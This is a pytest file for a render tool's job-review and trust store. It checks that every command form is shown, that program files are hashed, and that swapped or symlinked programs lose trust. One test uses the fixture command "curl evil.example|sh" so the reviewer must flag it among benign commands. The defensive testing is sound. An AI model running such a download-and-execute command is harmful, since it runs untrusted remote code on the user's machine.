"""Trust is bound to the programs that were shown: their paths and their content."""

from __future__ import annotations

import hashlib
import sys
from pathlib import Path

import pytest

from helios_gui.profiles.review import review_job
from helios_gui.profiles.trust import TrustStore
from helios_gui.types import JobMetadata, JobSpec, RenderChunk


def job(*commands: str, merge: str | None = None) -> JobSpec:
    chunks = tuple(
        RenderChunk(id=place, start_frame=place, frame_count=1, output_file=f"{place}.mov", command=command)
        for place, command in enumerate(commands)
    )
    metadata = JobMetadata(total_frames=len(commands), fps=30, width=64, height=36)
    return JobSpec(metadata=metadata, chunks=chunks, merge_command=merge)


def program(folder: Path, name: str, content: str = "#!/bin/sh\n") -> Path:
    folder.mkdir(exist_ok=True)
    path = folder / name
    path.write_text(content)
    path.chmod(0o755)
    return path


def test_every_form_of_a_command_is_there(tmp_path: Path) -> None:
    commands = [f"tool --frame {number}" for number in range(100)]
    review = review_job(job(*commands, "tool -c 'curl evil.example|sh'", *commands), tmp_path)
    (tool,) = review.programs
    assert [(form.example, form.uses) for form in tool.forms] == [
        ("tool --frame 0", 200),
        ("tool -c 'curl evil.example|sh'", 1),
    ]
    assert review.commands == (*commands, "tool -c 'curl evil.example|sh'")


def test_a_merge_command_is_a_form(tmp_path: Path) -> None:
    review = review_job(job("tool a", merge="tool 'b c'"), tmp_path)
    assert [form.example for form in review.programs[0].forms] == ["tool a", "tool 'b c'"]


def test_the_digest_is_of_the_file_that_would_run(tmp_path: Path) -> None:
    tool = program(tmp_path / "job", "tool")
    (used,) = review_job(job("./tool a"), tool.parent).programs
    assert used.resolved == tool
    assert used.digest == hashlib.sha256(tool.read_bytes()).hexdigest()


def test_the_profiles_path_decides_which_program_it_is(tmp_path: Path) -> None:
    first, second = program(tmp_path / "a", "tool", "#!/bin/sh\n# a\n"), program(tmp_path / "b", "tool", "#!/bin/sh\n")
    usual = review_job(job("tool"), tmp_path, search_path=str(first.parent))
    other = review_job(job("tool"), tmp_path, search_path=str(second.parent))
    assert (usual.programs[0].resolved, other.programs[0].resolved) == (first, second)
    trust = TrustStore(tmp_path / "trust.json")
    trust.remember(usual)
    assert trust.is_trusted(usual)
    assert not trust.is_trusted(other)


@pytest.mark.parametrize("changed", ["content", "gone", "link"])
def test_another_program_in_its_place_is_not_trusted(changed: str, tmp_path: Path) -> None:
    folder = tmp_path / "job"
    tool = program(folder, "tool", "#!/bin/sh\n# 1\n")
    trust = TrustStore(tmp_path / "trust.json")
    trust.remember(review_job(job("./tool"), folder))
    assert trust.is_trusted(review_job(job("./tool"), folder))
    tool.unlink()
    if changed == "content":
        program(folder, "tool", "#!/bin/sh\n# 2\n")
    elif changed == "link":
        tool.symlink_to(program(tmp_path / "evil", "tool", "#!/bin/sh\n# 3\n"))
    assert not trust.is_trusted(review_job(job("./tool"), folder))
    tool.unlink(missing_ok=True)
    program(folder, "tool", "#!/bin/sh\n# 1\n")
    assert trust.is_trusted(review_job(job("./tool"), folder))


def test_our_own_program_is_found_and_shown_as_what_runs(tmp_path: Path) -> None:
    review = review_job(job("helios-gui web page.html -o 0.mov"), tmp_path, search_path="")
    assert not review.missing
    (own,) = review.programs
    assert own.written == "helios-gui"
    assert own.resolved == Path(sys.executable)
